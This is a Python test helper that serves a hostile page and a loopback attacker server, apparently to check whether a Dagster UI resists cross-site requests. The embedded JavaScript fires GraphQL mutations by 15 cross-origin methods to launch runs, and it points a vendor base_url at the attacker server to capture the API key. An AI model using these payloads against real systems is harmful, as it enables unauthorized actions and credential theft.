"""A web page that tries to make the UI launch a run, and a server that waits for the API key. No test.

It tries every way in which a browser sends a request to another origin: images, frames, forms, `fetch`, beacons, links
and WebSockets.
"""

import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

from mohlcv_dagster_tests.defs.served import REPOSITORY

MUTATION = """mutation Attack($plain: ExecutionParams!, $configured: ExecutionParams!, $where: RepositorySelector!) {
  addDynamicPartition(partitionKey: "STOLEN", partitionsDefName: "symbol", repositorySelector: $where) {__typename}
  plain: launchPipelineExecution(executionParams: $plain) {__typename}
  configured: launchPipelineExecution(executionParams: $configured) {
    __typename ...on RunConfigValidationInvalid {errors {message}}}
  pool: setConcurrencyLimit(concurrencyKey: "STOLEN", limit: 7)}"""
"""Each part would leave a trace: a symbol, runs, and a pool."""
WAYS = 15
ROUTES = (
    "server_info",
    "runs",
    "logs/any/compute_logs/any.err",
    "download_debug/any",
    "notebook?path=/etc/any.ipynb&repoLocName=mohlcv_dagster.definitions",
    "report_asset_materialization/raw_1s?description=STOLEN",
    "report_asset_check/raw_1s?check_name=intact&passed=true",
    "report_asset_observation/raw_1s",
)
"""What else the UI serves, beside GraphQL."""

_PAGE = """<!doctype html><title>hostile</title><body><script>
const ui = %(ui)s, query = %(query)s, variables = %(variables)s;
const json = JSON.stringify({query, variables});
const url = ui + "/graphql?" + new URLSearchParams({query, variables: JSON.stringify(variables)});
const html = {headers: {Accept: "text/html"}};
const told = async (name, trying) => {
  try { const answer = await trying; return [name, `${answer.type ?? answer} ${answer.status ?? ""}`.trim()]; }
  catch (error) { return [name, "failed"]; }
};
const element = (kind, source) => new Promise(done => {
  const made = document.createElement(kind);
  made.onload = () => done("loaded"); made.onerror = () => done("failed");
  made.src = source; document.body.append(made);
});
const form = (action, type, fields) => new Promise(done => {
  const frame = document.createElement("iframe"); frame.name = "frame" + Math.random(); document.body.append(frame);
  const made = document.createElement("form");
  Object.assign(made, {method: "POST", action, enctype: type, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    made.append(Object.assign(document.createElement("input"), {name, value}));
  }
  document.body.append(made); frame.onload = () => done("loaded"); made.submit();
});
const socket = () => new Promise(done => {
  const made = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
  const start = JSON.stringify({type: "start", id: "1", payload: {query, variables}});
  made.onopen = () => { made.send(start); done("opened"); };
  made.onerror = () => done("failed");
});
const post = (type, body, more) =>
  fetch(ui + "/graphql", {method: "POST", body, headers: {"Content-Type": type}, ...more});
const [before, after] = json.split("query");
const tries = () => [
  told("image", element("img", url)), told("script", element("script", url)), told("frame", element("iframe", url)),
  told("get", fetch(url)), told("get without CORS", fetch(url, {mode: "no-cors"})),
  told("get as for a page", fetch(url, {mode: "no-cors", ...html})),
  told("text", post("text/plain", json, {mode: "no-cors"})), told("text with CORS", post("text/plain", json)),
  told("query in the URL", fetch(url, {method: "POST", mode: "no-cors"})),
  told("JSON", post("application/json", json)),
  told("JSON with cookies", post("application/json", json, {credentials: "include"})),
  told("form", form(url, "application/x-www-form-urlencoded", {query, variables: JSON.stringify(variables)})),
  told("form as text", form(ui + "/graphql", "text/plain", {[before + "query"]: after})),
  told("beacon", Promise.resolve(String(navigator.sendBeacon(ui + "/graphql", json)))),
  told("socket", socket()),
];
const report = JSON.stringify({description: "STOLEN"});
const reached = url => [
  told("read", fetch(url)), told("asked", fetch(url, {mode: "no-cors"})), told("image", element("img", url)),
  told("script", element("script", url)), told("frame", element("iframe", url)),
  told("text", fetch(url, {method: "POST", mode: "no-cors", body: report})),
  told("JSON", fetch(url, {method: "POST", body: report, headers: {"Content-Type": "application/json"}})),
  told("form", form(url, "application/x-www-form-urlencoded", {description: "STOLEN"})),
  told("beacon", Promise.resolve(String(navigator.sendBeacon(url, report)))),
];
window.reach = async url => Object.fromEntries(await Promise.all(reached(url)));
window.attack = async () => Object.fromEntries(await Promise.all(tries()));
window.follow = () => { location = url; };
</script>"""


class Hostile:
    """The attacker's server on loopback; a run configured with it as vendor would send it the key.

    Attributes:
        port: where it listens.
        asked: the paths of the requests that are not for its own page.
    """

    def __init__(self):
        self.asked = []
        self.page = ""
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.port = self._server.server_address[1]

    def _handler(self):
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                path = urlsplit(self.path).path
                if path not in {"/", "/favicon.ico"}:
                    hostile.asked.append(path)
                body = hostile.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *told):
                pass

        return Handler

    def aim(self, ui):
        """Serve a page that attacks the UI at `ui`."""
        told = {"ui": ui, "query": MUTATION, "variables": self.variables()}
        self.page = _PAGE % {name: json.dumps(value) for name, value in told.items()}

    def variables(self):
        """What is launched: a month as usual, and one with this server as vendor."""
        address = {"resources": {"massive": {"config": {"base_url": f"http://127.0.0.1:{self.port}"}}}}
        plain = {
            "selector": {**REPOSITORY, "pipelineName": "__ASSET_JOB", "assetSelection": [{"path": ["raw_1s"]}]},
            "mode": "default",
            "runConfigData": {},
            "executionMetadata": {"tags": [{"key": "dagster/partition", "value": "2024-01|STOLEN"}]},
        }
        return {"where": REPOSITORY, "plain": plain, "configured": {**plain, "runConfigData": address}}

    @contextmanager
    def serving(self):
        thread = threading.Thread(target=self._server.serve_forever)
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            self._server.server_close()
            thread.join()
